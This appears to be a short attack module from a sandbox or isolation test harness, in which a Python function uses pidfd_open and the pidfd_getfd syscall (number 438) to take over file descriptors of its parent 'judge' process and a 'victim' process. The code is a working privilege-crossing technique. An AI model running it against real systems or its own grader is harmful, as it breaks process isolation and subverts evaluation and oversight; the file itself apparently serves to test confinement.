"""takes the judge's and the victim's descriptors by pidfd_getfd"""

import os


def attack():
    for pid in (os.getppid(), TARGETS["victim"]):
        handle = os.pidfd_open(pid)
        for fd in range(32):
            try:
                taken = syscall(438, handle, fd, 0)
            except OSError:
                continue
            reached(f"descriptor {fd} of {pid} is mine as {taken}")
